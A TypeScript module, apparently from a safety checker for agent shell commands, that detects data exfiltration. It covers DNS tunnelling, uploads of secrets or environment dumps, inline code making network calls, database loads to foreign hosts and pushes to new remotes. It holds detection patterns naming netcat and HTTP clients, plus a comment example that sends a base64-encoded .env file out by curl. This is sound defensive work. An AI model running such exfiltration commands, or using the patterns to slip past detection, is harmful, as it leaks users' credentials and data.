/**
 * Stage-1 checks for data leaving the machine: uploads of private data, DNS tunnelling,
 * inline code that sends files, and pushes to newly added remotes.
 */
import { setsRepoSecretFromNamedEnvFile } from './repo-secrets.js';
import { isIP } from 'node:net';
import { isPrivateAddress } from '../core/addresses.js';
import { EXFIL_HOST_PATTERN } from './rules.js';
import {
  DNS_TOOLS,
  finding,
  namesCredentialPath,
  printsEnvironment,
  SENDERS,
  SENSITIVE_DATA,
  type Finding,
} from './findings.js';
import { containsWord, databaseHosts } from './named-targets.js';
import { isRsyncDryRun } from './dry-runs.js';
import { namedBuildArchives } from './build-archives.js';
import { hiddenCredentialRead } from './inline-globs.js';
import type { ParsedShell, SimpleCommand } from './shell.js';

/** Calls in a command's inline code that send data over HTTP. */
const INLINE_SENDER = /requests\.(?:post|put)|urllib|fetch\(|http\.client/;

/** Finds a command line that sends private data, or any data to an untrusted host. */
export function checkExfiltration(
  parsed: ParsedShell,
  raw: string,
  homeDir: string,
  messages = '',
): Finding | undefined {
  const inline = checkInlineCode(parsed, homeDir);
  if (inline !== undefined) {
    return inline;
  }
  for (const command of parsed.commands) {
    // A repository secret set from the env file the user named is stored, not posted.
    if (
      postsSecretFile(command) &&
      !setsRepoSecretFromNamedEnvFile(command, parsed.commands, messages)
    ) {
      return finding(
        'credential-leakage',
        'The command posts the contents of a secret file to an issue tracker or forge',
        'secret-in-message',
      );
    }
    if (resolvesNames(command) && /\$\(|`/.test(command.text)) {
      return SENSITIVE_DATA.test(raw) || LOCAL_DATA_SOURCE.test(command.text)
        ? finding(
            'data-exfiltration',
            'The command encodes local data into DNS lookups',
            'dns-exfiltration',
          )
        : finding(
            'exfil-scouting',
            'The command probes an out-of-band DNS endpoint with host details',
            'dns-probe',
          );
    }
    const database = checkDatabaseUpload(command, messages);
    if (database !== undefined) {
      return database;
    }
    // The pattern matches no space, so a match lies inside one argument.
    if (!SENDERS.has(command.name) && !command.argv.some((arg) => INLINE_SENDER.test(arg))) {
      continue;
    }
    const text = command.argv.join(' ');
    // A dry run sends no file contents, so it is judged like an ssh login to the host.
    if (isLocalCopy(command) || isRsyncDryRun(command)) {
      continue;
    }
    const secretVariable = secretSentElsewhere(command, messages);
    if (secretVariable !== undefined) {
      return finding(
        'credential-leakage',
        `The command sends the secret variable ${secretVariable} to a host that is not its service`,
        'secret-variable-sent',
      );
    }
    const redirectedIn = command.redirects.some(
      (redirect) =>
        (redirect.operator === '<' || redirect.operator === '<>') &&
        (SENSITIVE_DATA.test(redirect.target) || namesCredentialPath(redirect.target)),
    );
    // Private data read in a command substitution, as in `curl "https://x/?d=$(base64 .env)"`.
    const substitutedData =
      /\$\(|`/.test(command.text) &&
      parsed.commands.some(
        (other) =>
          other.via.includes('$()') &&
          (SENSITIVE_DATA.test(other.argv.join(' ')) || namesCredentialPath(other.argv.join(' '))),
      );
    const sendsData =
      redirectedIn ||
      substitutedData ||
      /\s(?:-d|--data\S*|-F|--form|-T|--upload-file|--post-file|--body-file)\b|-X\s*(?:POST|PUT)|@-|@\S|files=|data=/.test(
        text,
      ) ||
      (command.pipeline?.index ?? 0) > 0 ||
      ['nc', 'ncat', 'netcat', 'scp', 'rsync'].includes(command.name);
    if (!sendsData) {
      const address = publicAddressOf(command.argv.slice(1));
      if (address !== undefined && !containsWord(messages, address)) {
        return finding(
          'exfil-scouting',
          `The command contacts the raw public IP address ${address}, which names no known service`,
          'raw-ip-endpoint',
        );
      }
      continue;
    }
    // The environment contains tokens and keys, so a dump of it counts as private data too.
    const pipedData = parsed.commands.some(
      (other) =>
        other.pipeline !== undefined &&
        other.pipeline.id === command.pipeline?.id &&
        other !== command &&
        (SENSITIVE_DATA.test(other.argv.join(' ')) || printsEnvironment(other)),
    );
    const homeData =
      text.includes(`${homeDir}/`) || /(?:^|[\s'"=@(])~\/|\$HOME\b|\/etc\//.test(command.text);
    // A build archive sent to the host the user named is the upload they asked for.
    const archives = namedBuildArchives(command, parsed, messages, homeDir);
    const checkedText =
      archives.length === 0
        ? text
        : command.argv.filter((arg) => !archives.includes(arg.replace(/^@/, ''))).join(' ');
    const sensitive =
      homeData ||
      SENSITIVE_DATA.test(checkedText) ||
      namesCredentialPath(text) ||
      pipedData ||
      substitutedData ||
      redirectedIn;
    // A raw IP address the user gave in a message is a host they chose, not a probe.
    const untrustedHost =
      EXFIL_HOST_PATTERN.test(text) ||
      rawAddresses(text).some((address) => !containsWord(messages, address));
    if ((sensitive || untrustedHost) && !/localhost|127\.0\.0\.1/.test(text)) {
      return sensitive
        ? finding(
            'data-exfiltration',
            'The command sends private data to a host outside the trust boundary',
            'send-private-data',
          )
        : finding(
            'exfil-scouting',
            'The command sends data to an untrusted or raw-IP endpoint',
            'send-untrusted',
          );
    }
  }
  if (EXFIL_HOST_PATTERN.test(raw)) {
    return finding(
      'exfil-scouting',
      'The command contacts a webhook, paste, tunnel or out-of-band testing service',
      'exfil-host',
    );
  }
  // The cheaper test runs first, because most command lines send nothing off the machine.
  if (sendsOffHost(parsed) && readsCredentials(parsed)) {
    return finding(
      'data-exfiltration',
      'The command line reads credential files and also sends data to another host',
      'credentials-and-network',
    );
  }
  const pushTarget = /git remote add\s+(\S+)\s+\S+.*git push\s+(?:-\S+\s+)*(\S+)/s.exec(raw);
  if (pushTarget !== null && pushTarget[1] === pushTarget[2]) {
    return finding(
      'data-exfiltration',
      'The command pushes the repository to a newly added remote',
      'push-new-remote',
    );
  }
  return undefined;
}

/** Clients of issue trackers and forges, whose comments, issues and gists other people read. */
const TRACKER_CLIS = new Set(['gh', 'glab', 'hub', 'tea', 'jira', 'linear']);
const FILE_OPTIONS = new Set(['--body-file', '-F', '--file', '--field', '--input']);

/**
 * Checks whether a tracker or forge call reads a secret file into what it posts, through a
 * command substitution (`--body "$(cat .env)"`) or a file option (`--body-file .env`). The
 * body text itself is not checked, so a comment that mentions `.env` still passes.
 */
function postsSecretFile(command: SimpleCommand): boolean {
  if (!TRACKER_CLIS.has(command.name)) {
    return false;
  }
  const substituted = [...command.text.matchAll(/\$\(([^)]*)\)|`([^`]*)`/g)].map(
    (match) => match[1] ?? match[2] ?? '',
  );
  const files = command.argv
    .filter((_arg, index) => FILE_OPTIONS.has(command.argv[index - 1] ?? ''))
    .map((value) => value.replace(/^[\w-]+=@?/, ''));
  return [...substituted, ...files].some(
    (source) => SENSITIVE_DATA.test(` ${source}`) || namesCredentialPath(source),
  );
}

/** Returns the IPv4 addresses in a command's text that follow `://`, a space or `@`. */
function rawAddresses(text: string): string[] {
  return [...text.matchAll(/(?:[a-z]+:\/\/|\s|@)((?:\d{1,3}\.){3}\d{1,3})\b/g)].map(
    (match) => match[1] ?? '',
  );
}

const IPV4 = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?((?:\d{1,3}\.){3}\d{1,3})(?:[:/]|$)/i;

/** Returns the first argument's IPv4 host (as a URL, `user@host` or a bare host) outside private ranges. */
function publicAddressOf(args: readonly string[]): string | undefined {
  for (const arg of args) {
    const address = IPV4.exec(arg)?.[1];
    if (address !== undefined && isIP(address) === 4 && !isPrivateAddress(address)) {
      return address;
    }
  }
  return undefined;
}

/**
 * Network calls in inline code: HTTP clients of Python, Node, Ruby, Perl, PHP, Go and .NET,
 * raw sockets, and any literal URL to a host other than this machine. Python's `urllib.parse`
 * and `urllib.error`, and `socket.gethostname()`, send nothing, so they do not count.
 */
export const NETWORK_CODE =
  /requests\.\w+\(|urlopen|urllib(?!\.(?:parse|error)\b|\s+import\s+(?:parse|error)\b(?!\s*,))|http\.client|httpx|aiohttp|pycurl|socket\.(?!gethostname\(\))|fetch\(|axios|\bgot\b|undici|superagent|needle|https?\.(?:request|get)\b|XMLHttpRequest|WebSocket|Net::HTTP|open-uri|URI\.open|Faraday|HTTParty|LWP::|HTTP::Tiny|IO::Socket|curl_exec|fsockopen|stream_socket_client|net\.Dial|http\.(?:Post|Get)\b|Invoke-WebRequest|Invoke-RestMethod|WebClient|HttpClient|\bhttps?:\/\/(?!localhost\b|127\.|\[::1\])/;
const RAW_IP_OR_EXFIL_HOST = /(?:[a-z]+:\/\/|['"@])(?:\d{1,3}\.){3}\d{1,3}\b/;

/** Checks inline interpreter code for network calls that carry private data, and for credential reads. */
function checkInlineCode(parsed: ParsedShell, homeDir: string): Finding | undefined {
  for (const { code } of parsed.inlineCode) {
    const hidden = namesCredentialPath(code) ? undefined : hiddenCredentialRead(code, homeDir);
    const credentials = namesCredentialPath(code) || hidden !== undefined;
    if (NETWORK_CODE.test(code) && (credentials || SENSITIVE_DATA.test(code))) {
      return finding(
        'data-exfiltration',
        'Inline code sends private data over the network',
        'inline-exfiltration',
      );
    }
    if (
      NETWORK_CODE.test(code) &&
      (RAW_IP_OR_EXFIL_HOST.test(code) || EXFIL_HOST_PATTERN.test(code))
    ) {
      return finding(
        'exfil-scouting',
        'Inline code contacts a raw-IP or out-of-band endpoint',
        'inline-untrusted-host',
      );
    }
    if (hidden === 'glob') {
      return finding(
        'credential-exploration',
        'Inline code reads files through a glob that can match credential files',
        'inline-credential-glob',
      );
    }
    if (hidden === 'assembled-path') {
      return finding(
        'credential-exploration',
        'Inline code reads a credential file through a path it builds from parts',
        'inline-credential-path',
      );
    }
    if (hidden === 'folder-listing') {
      return finding(
        'credential-exploration',
        'Inline code lists a home folder that holds credentials and reads the files it finds',
        'inline-home-listing',
      );
    }
    if (hidden === 'home-listing') {
      return finding(
        'credential-exploration',
        'Inline code lists the home folder and reads the files it finds, credential files among them',
        'inline-home-listing',
      );
    }
    if (credentials) {
      return finding(
        'credential-exploration',
        'Inline code reads credential files',
        'inline-credential-path',
      );
    }
  }
  return undefined;
}

/** Checks whether any command names a credential file (as an argument or a redirect). */
function readsCredentials(parsed: ParsedShell): boolean {
  return parsed.commands.some(
    (command) =>
      command.argv.slice(1).some((arg) => namesCredentialPath(arg)) ||
      command.redirects.some((redirect) => namesCredentialPath(redirect.target)),
  );
}

/**
 * Commands whose output is local data: file readers and encoders, the environment and git's
 * settings. A name lookup built from their output carries that data. The user and host names
 * (`whoami`, `hostname`) are host details, which a lookup probes with rather than sends out.
 */
const LOCAL_DATA_SOURCE =
  /\$\(\s*(?:cat|base64|base32|xxd|od|hexdump|head|tail|printenv|env|git config)\b/;

/** Resolver tools beyond `DNS_TOOLS` whose lookups also leave the machine as DNS queries. */
const RESOLVERS = new Set(['resolvectl', 'kdig', 'delv', 'dnsx', 'massdns']);

/** Checks whether `command` looks up host names, which can carry data out in DNS queries. */
function resolvesNames(command: SimpleCommand): boolean {
  if (DNS_TOOLS.has(command.name) || RESOLVERS.has(command.name)) {
    return true;
  }
  return command.name === 'getent' && /^a?hosts(?:v[46])?$/.test(command.argv[1] ?? '');
}

/** Checks whether an `rsync` or `scp` copies between local folders only, naming no `host:` operand. */
function isLocalCopy(command: SimpleCommand): boolean {
  if (command.name !== 'rsync' && command.name !== 'scp') {
    return false;
  }
  const operands = command.argv.slice(1).filter((arg) => !arg.startsWith('-'));
  return (
    !command.dynamic &&
    !command.argv.some((arg) => /^(?:-e|--rsh)(?:=|$)/.test(arg)) &&
    operands.length >= 2 &&
    operands.every((arg) => !/^(?:[\w.-]+@)?[\w.-]+:|^[a-z]+:\/\//i.test(arg))
  );
}

/** A variable whose name marks a secret, such as `STRIPE_SECRET_KEY` or `GH_TOKEN`. */
const SECRET_VARIABLE =
  /\$\{?([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|_KEY|_PAT|CREDENTIALS?)[A-Z0-9_]*)\}?/g;
/** Words of a secret variable's name that say what it is, not which service it is for. */
const SECRET_WORDS = /^(?:secret|token|access|private|password|passwd|credentials?|auth|keys?)$/;
/** Short service prefixes of secret variables and the domain label of their service. */
const SERVICE_ALIASES: Record<string, string> = {
  gh: 'github',
  gl: 'gitlab',
  aws: 'amazonaws',
  gcp: 'googleapis',
  google: 'googleapis',
  hf: 'huggingface',
  npm: 'npmjs',
  az: 'azure',
  cf: 'cloudflare',
  // GitLab CI names its predefined variables `CI_*`, such as `CI_JOB_TOKEN`.
  ci: 'gitlab',
};

/**
 * Returns the first secret variable that a sender puts into a request to a host that is not
 * the secret's own service. The service is the variable's first word, so `$GITHUB_TOKEN` may
 * go to `api.github.com` and `$STRIPE_SECRET_KEY` to `api.stripe.com`. `localhost` and hosts
 * the user names also qualify. URLs with an IP address are left to the raw-address checks.
 */
function secretSentElsewhere(command: SimpleCommand, messages: string): string | undefined {
  const hosts = command.argv
    .slice(1)
    .map(
      (arg) =>
        /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/\s]*@)?([a-z0-9.-]+\.[a-z]{2,})(?:[:/?]|$)/i.exec(arg)?.[1],
    )
    .filter((host) => host !== undefined)
    .map((host) => host.toLowerCase());
  // A URL that starts with a variable (`"$HOST/?t=$TOKEN"`) goes to a host known only at run
  // time. It counts as the secret's service only when the variable is named for it.
  for (const arg of command.argv.slice(1)) {
    const variable = HOST_VARIABLE.exec(arg)?.[1];
    if (variable !== undefined) {
      hosts.push(`$${variable}`);
    }
  }
  const untrusted = hosts.filter((host) => host !== 'localhost' && !containsWord(messages, host));
  if (untrusted.length === 0) {
    return undefined;
  }
  for (const arg of command.argv.slice(1)) {
    for (const match of arg.matchAll(SECRET_VARIABLE)) {
      const variable = match[1] ?? '';
      if (untrusted.some((host) => !servesSecretVariable(host, variable))) {
        return variable;
      }
    }
  }
  return undefined;
}

/** A URL argument that starts with a variable, such as `$HOST/…`. Group 1 is the variable. */
const HOST_VARIABLE = /^\$\{?([A-Za-z_]\w*)\}?(?:[:/?]|$)/;

/**
 * Checks whether `host` belongs to the service that the secret `variable` is for. A host
 * written as a variable (`$GITLAB_URL`) belongs to it when both names start with the same
 * service word.
 */
export function servesSecretVariable(host: string, variable: string): boolean {
  const prefix = variable.split('_')[0]?.toLowerCase() ?? '';
  const service = Object.hasOwn(SERVICE_ALIASES, prefix)
    ? (SERVICE_ALIASES[prefix] ?? prefix)
    : prefix;
  if (host.startsWith('$')) {
    const hostPrefix = host.slice(1).split('_')[0]?.toLowerCase() ?? '';
    return hostPrefix === prefix && !SECRET_WORDS.test(prefix);
  }
  return servesSecret(host, service, variable);
}

/**
 * Checks whether `host` belongs to the service a secret variable is for: its domain is the
 * service word (`api.github.com` for `GITHUB_TOKEN`), or a word of the variable's name starts
 * with the domain (`hub.docker.com` for `DOCKERHUB_TOKEN`).
 */
function servesSecret(host: string, service: string, variable: string): boolean {
  // Only the label before the top-level domain counts, so `github.com.example.net` is not GitHub.
  const domain = host.split('.').at(-2) ?? '';
  if (domain === service) {
    return true;
  }
  return (
    domain.length >= 4 &&
    !SECRET_WORDS.test(domain) &&
    variable
      .toLowerCase()
      .split('_')
      .some((word) => word.startsWith(domain))
  );
}

/** Database clients and loaders that write what they read into the database they connect to. */
const DATABASE_LOADERS = new Set([
  'psql',
  'mysql',
  'mariadb',
  'mongosh',
  'mongo',
  'mongorestore',
  'mongoimport',
  'pg_restore',
  'mysqlimport',
  'redis-cli',
  'clickhouse-client',
  'sqlcmd',
]);
/** Statements that load a local file or standard input into the server. */
const LOAD_STATEMENT = /\\copy\b[^;]*\bfrom\b|\bCOPY\b[^;]*\bFROM\s+STDIN\b|LOAD DATA LOCAL/i;

/**
 * Finds a database client that loads local data (piped in, redirected in, restored or
 * imported) into a server that is not on this machine, not at a private address and not
 * named by the user.
 */
function checkDatabaseUpload(command: SimpleCommand, messages: string): Finding | undefined {
  if (!DATABASE_LOADERS.has(command.name)) {
    return undefined;
  }
  const loads =
    (command.pipeline?.index ?? 0) > 0 ||
    command.redirects.some((redirect) => redirect.operator === '<') ||
    /restore|import/.test(command.name) ||
    LOAD_STATEMENT.test(command.argv.join(' '));
  if (!loads) {
    return undefined;
  }
  const foreign = databaseHosts(command).find(
    (host) =>
      !LOCAL_HOST.test(host) &&
      !(isIP(host) !== 0 && isPrivateAddress(host)) &&
      !namesHost(messages, host),
  );
  return foreign === undefined
    ? undefined
    : finding(
        'data-exfiltration',
        `The command loads local data into the database server ${foreign}, which the user did not name`,
        'database-upload',
      );
}

/** Loopback hosts and single-label names, such as a compose service `db`, which resolve on the local network. */
const LOCAL_HOST = /^(?:localhost|127\.\d+\.\d+\.\d+|::1|\[::1\]|[\w-]+)$/i;

/** Checks whether the user's messages name `host` or one of its distinctive labels. */
function namesHost(messages: string, host: string): boolean {
  if (containsWord(messages, host)) {
    return true;
  }
  const labels = host.split('.').slice(0, -1);
  return labels.some(
    (label) =>
      label.length >= 4 &&
      !/^(?:\d+|www|database|mongo|mysql|postgres)$/.test(label) &&
      containsWord(messages, label),
  );
}

/** Checks whether any command talks to a host other than this machine. */
function sendsOffHost(parsed: ParsedShell): boolean {
  return parsed.commands.some((command) => {
    const network =
      SENDERS.has(command.name) || DNS_TOOLS.has(command.name) || command.name === 'ssh';
    return (
      network &&
      command.argv.length > 1 &&
      !/localhost|127\.0\.0\.1|::1/.test(command.argv.join(' '))
    );
  });
}
